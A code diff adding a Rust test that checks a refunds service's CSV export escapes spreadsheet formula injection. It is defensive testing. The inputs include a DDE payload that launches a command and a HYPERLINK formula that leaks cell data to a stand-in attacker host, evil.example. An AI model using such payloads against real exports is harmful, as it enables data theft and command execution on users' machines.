@@ -665,3 +665,72 @@ both_backends!(
         assert_eq!(fetched, a);
     }
 );
+
+both_backends!(
+    the_csv_export_neutralizes_every_cell_a_spreadsheet_would_run_as_a_formula,
+    |db: Db| async move {
+        let provider = ScriptedProvider::new("scripted", Script::Succeed);
+        provider.then(Script::Fail(ProviderError::rejected(
+            "provider_rejected",
+            "+cmd|' /C calc'!A0",
+        )));
+        let Some(app) = spawn_app(db, provider).await else {
+            return;
+        };
+        let hostile = app
+            .post_refund(
+                ACME_KEY,
+                None,
+                &json!({
+                    "payment_id": "-2+3",
+                    "amount": "10.00",
+                    "currency": "EUR",
+                    "reason": "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
+                    "reference": "@SUM(A1:A9)",
+                }),
+            )
+            .await;
+        assert_eq!(hostile.status().as_u16(), 201);
+        let plain = refund(&app, ACME_KEY, "pay_plain", "12.50", "EUR").await;
+
+        let text = app
+            .get(ACME_KEY, "/v1/refunds/export")
+            .await
+            .text()
+            .await
+            .expect("text");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let headers = reader.headers().expect("headers").clone();
+        let column = |name: &str| {
+            headers
+                .iter()
+                .position(|h| h == name)
+                .unwrap_or_else(|| panic!("{name} column"))
+        };
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+        assert_eq!(rows.len(), 2);
+        let (plain_row, hostile_row) = (&rows[0], &rows[1]);
+        assert_eq!(
+            &hostile_row[column("reason")],
+            "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"
+        );
+        assert_eq!(&hostile_row[column("reference")], "'@SUM(A1:A9)");
+        assert_eq!(&hostile_row[column("payment_id")], "'-2+3");
+        assert_eq!(
+            &hostile_row[column("failure_message")],
+            "'+cmd|' /C calc'!A0"
+        );
+        // No cell of any row starts a formula; amounts stay numbers.
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+        assert_eq!(&hostile_row[column("amount")], "10.00");
+        assert_eq!(&hostile_row[column("amount_minor")], "1000");
+        assert_eq!(&plain_row[column("id")], id(&plain).as_str());
+    }
+);
